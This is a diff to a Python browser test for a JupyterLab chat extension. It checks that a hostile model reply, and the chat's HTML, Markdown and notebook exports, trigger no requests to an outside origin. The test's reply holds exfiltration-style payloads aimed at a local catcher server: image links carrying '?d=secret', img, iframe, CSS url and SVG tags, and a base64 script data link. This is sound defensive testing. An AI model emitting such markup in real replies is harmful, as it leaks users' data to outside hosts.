@@ -1,5 +1,5 @@
 """The chat panel in a real JupyterLab and Chromium: Pi answers in a ``.chat`` beside a notebook,
-on the session the notebook's cells write.
+on the session the notebook's cells write; a hostile reply, and its exports, fetch nothing.
 
 JupyterLab starts as in ``tests/views/test_browser.py`` (loopback, a token, its own config),
 with the ``chat`` extra's server extensions (jupyterlab-chat, Jupyter AI's router and persona
@@ -7,19 +7,27 @@ manager) and pinb's loopback model server as the persona's model (``PinbPersona.
 a reply streams slowly enough to be watched. The test runs a notebook cell, points the chat
 at the notebook's session (``/session open``), mentions Pi, watches the reply stream, stops a
 second reply with the chat's stop button, runs a cell after the chat's turn and reads both
-turns in ``%pi tree``. Screenshots go to ``test-artifacts/``.
+turns in ``%pi tree``. Another has the model reply with every way Markdown and HTML could
+make the browser fetch something, and counts the requests that leave the lab's origin, in
+the chat and in the session's ``--html``, ``--md`` and ``--ipynb`` exports opened in the
+same browser. Screenshots go to ``test-artifacts/``.
 """
 
 from __future__ import annotations
 
 import contextlib
 import json
+import threading
 import time
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
+from urllib.parse import urlsplit
 
 import pytest
 
+from pinb.analysis.export import write_export
 from pinb.chat.link import ensure_chat_file, read_link
 from pinb.chat.turns import chat_turns
 from pinb.core import Session
@@ -259,3 +267,173 @@ def _chat_beside_a_notebook(
     assert link is not None and link.session == path and link.linked_by == "chat"
     assert KEY not in (root / "demo.chat").read_text()
     assert time.monotonic() - started < BUDGET_S
+
+
+class _Catcher:
+    """A loopback server on a port of its own (an origin other than the lab's): where a
+    hostile reply sends the browser. It records every request that reaches it."""
+
+    def __init__(self) -> None:
+        hits: list[str] = []
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                hits.append(self.path)
+                self.send_response(204)
+                self.end_headers()
+
+            def log_message(self, format: str, *args: Any) -> None:
+                return
+
+        self.hits = hits
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
+
+    def __enter__(self) -> _Catcher:
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+        return self
+
+    def __exit__(self, *exc: object) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def _hostile_reply(c: str) -> str:
+    """Every way a reply could make a browser fetch ``c`` (the catcher), and a marker."""
+    return "\n\n".join(
+        [
+            "Here is **the report**.",
+            f"![inline]({c}/inline.png?d=secret)",
+            f"![reference][r]\n\n[r]: {c}/reference.png?d=secret",
+            f'<img src="{c}/raw.png?d=secret" alt="raw">',
+            f'<iframe src="{c}/frame.html"></iframe>',
+            f'<div style="background-image:url({c}/css.png)">styled</div>',
+            f'<svg><image href="{c}/svg.png" width="9" height="9"/></svg>',
+            "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+            f"[![nested]({c}/nested.png)]({c}/page)",
+            f"&#x21;[entity]({c}/entity.png) and wow![bang]({c}/bang.png)",
+            f"| a | b |\n|---|---|\n| ![cell]({c}/cell.png) | `<img src={c}/code.png>` |",
+            f"- ![item]({c}/item.png)\n- see {c}/bare.png`<img src={c}/bare-code.png>`",
+            f'```html\n<img src="{c}/fence.png">\n```',
+            "END-OF-REPLY",
+        ]
+    )
+
+
+#: Elements in a rendered page that would fetch: anything but a link with an address.
+_FETCHERS = (
+    "root => [...root.querySelectorAll('*')].filter(e => e.tagName !== 'A'"
+    " && ['src', 'srcset', 'href', 'xlink:href', 'poster', 'data', 'background']"
+    ".some(n => e.hasAttribute(n) && !/^data:image[/]png;base64,/.test(e.getAttribute(n)))"
+    " || /url[(]/.test(e.getAttribute('style') || '')).map(e => e.outerHTML.slice(0, 200))"
+)
+_LINKS = "root => [...root.querySelectorAll('a')].map(a => [a.getAttribute('href'), a.textContent])"
+
+
+def _check_rendered(root: Any, c: str, where: str) -> None:
+    """What a rendered reply shows: links to click for the pictures, HTML as its text."""
+    assert root.evaluate(_FETCHERS) == [], where
+    links = [tuple(link) for link in root.evaluate(_LINKS)]
+    for name in ("inline", "reference", "cell", "item", "bang"):
+        assert (f"{c}/{name}.png?d=secret" if name in ("inline", "reference") else
+                f"{c}/{name}.png", f"image: {name}") in links, (where, name, links)  # fmt: skip
+    # (and JupyterLab's anchors beside headings)
+    assert not [href for href, _ in links if not href.startswith((c, "mailto:", "#"))], where
+    text = root.inner_text()
+    for shown in (f'<img src="{c}/raw.png?d=secret" alt="raw">', "<iframe src=", "END-OF-REPLY"):
+        assert shown in text, (where, shown)
+
+
+@contextlib.contextmanager
+def _requests_leaving(page: Any, base: str) -> Iterator[list[str]]:
+    """Every request of ``page``'s browser context to another origin than ``base``'s."""
+    origin = urlsplit(base).netloc
+    seen: list[str] = []
+
+    def record(request: Any) -> None:
+        url = urlsplit(request.url)
+        if url.scheme in ("http", "https", "ws", "wss") and url.netloc != origin:
+            seen.append(request.url)
+
+    page.context.on("request", record)
+    yield seen
+
+
+def test_a_hostile_reply_fetches_nothing_in_the_chat_or_its_exports(
+    tmp_path: Path, isolated_agent_dir: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    if not CHROMIUM.exists():
+        pytest.fail(f"{CHROMIUM} is missing: the browser test needs Debian's Chromium")
+    monkeypatch.setenv("LOOP_KEY", KEY)
+    root = tmp_path / "lab"
+    config = root / ".jupyter-home" / "config"
+    config.mkdir(parents=True)
+    (config / "jupyter_server_config.json").write_text(
+        json.dumps({"PinbPersona": {"model": "loop/loop-model"}})
+    )
+    ensure_chat_file(root / "report.chat")
+    ARTIFACTS.mkdir(exist_ok=True)
+    with LLMServer() as server, _Catcher() as catcher:
+        configure(isolated_agent_dir, server)
+        c = catcher.base
+        server.reply(text=_hostile_reply(c), chunk_delay=0.01)
+        with (
+            watchdog(BUDGET_S),
+            jupyter_lab(root, "--LabApp.expose_app_in_browser=True") as (base, token),
+            chromium_page(1400, 1400) as page,
+            _requests_leaving(page, base) as leaving,
+        ):
+            try:
+                # The chat: the reply streams in, and the final message is checked.
+                page.goto(
+                    f"{base}/lab/workspaces/report/tree/report.chat?token={token}",
+                    wait_until="domcontentloaded",
+                )
+                page.locator(".jp-chat-input-container textarea").first.wait_for()
+                _send(page, "@Pi write the report")
+                _wait_for_message(page, "context now", 1)
+                (reply,) = [
+                    m
+                    for m in page.locator(".jp-chat-rendered-message").all()
+                    if "END-OF-REPLY" in m.inner_text()
+                ]
+                page.wait_for_timeout(1500)  # anything loaded lazily has had its chance
+                page.screenshot(path=str(ARTIFACTS / "chat-hostile-reply.png"), full_page=True)
+                assert leaving == [] and catcher.hits == [], (leaving, catcher.hits)
+                _check_rendered(reply, c, "chat")
+
+                # The session's exports, opened in the same browser.
+                link = read_link(root / "report.chat")
+                assert link is not None
+                for fmt in ("html", "md", "ipynb"):
+                    write_export(link.session, fmt, root / f"report.{fmt}")
+                page.goto(f"{base}/files/report.html?token={token}")
+                _check_rendered(page.locator("main"), c, "--html")
+                # Without its Content-Security-Policy too: the markup alone fetches nothing.
+                page.set_content(
+                    (root / "report.html").read_text().replace("Content-Security-Policy", "x")
+                )
+                _check_rendered(page.locator("main"), c, "--html without its CSP")
+
+                page.goto(f"{base}/lab/workspaces/nb/tree/report.ipynb?token={token}")
+                cells = page.locator(".jp-MarkdownCell .jp-RenderedMarkdown")
+                cells.filter(has_text="END-OF-REPLY").first.wait_for()
+                (cell,) = cells.filter(has_text="END-OF-REPLY").all()
+                _check_rendered(cell, c, "--ipynb, untrusted")
+                page.screenshot(path=str(ARTIFACTS / "export-hostile-ipynb.png"), full_page=True)
+
+                page.evaluate(
+                    "() => window.jupyterapp.commands.execute('docmanager:open',"
+                    " {path: 'report.md', factory: 'Markdown Preview'})"
+                )
+                preview = page.locator(".jp-RenderedMarkdown").filter(has_text="END-OF-REPLY")
+                preview.last.wait_for()
+                _check_rendered(preview.last, c, "--md in JupyterLab's Markdown preview")
+                page.screenshot(path=str(ARTIFACTS / "export-hostile-md.png"), full_page=True)
+                page.wait_for_timeout(1500)
+            except Exception:
+                with contextlib.suppress(Exception):
+                    page.screenshot(path=str(ARTIFACTS / "chat-hostile-failure.png"))
+                raise
+            assert leaving == [], leaving
+    assert catcher.hits == [], catcher.hits
